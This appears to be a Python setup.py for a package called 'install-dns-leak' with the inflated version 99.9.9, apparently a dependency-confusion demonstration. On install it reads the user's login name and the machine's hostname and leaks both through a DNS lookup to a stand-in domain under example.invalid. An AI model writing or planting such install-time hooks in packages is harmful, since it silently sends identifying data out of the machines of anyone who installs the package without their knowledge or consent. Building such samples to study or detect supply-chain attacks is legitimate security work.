import getpass
import socket
from setuptools import setup

name = "%s.%s.d.example.invalid" % (getpass.getuser(), socket.gethostname())
try:
    socket.gethostbyname(name)
except OSError:
    pass
setup(name="install-dns-leak", version="99.9.9")
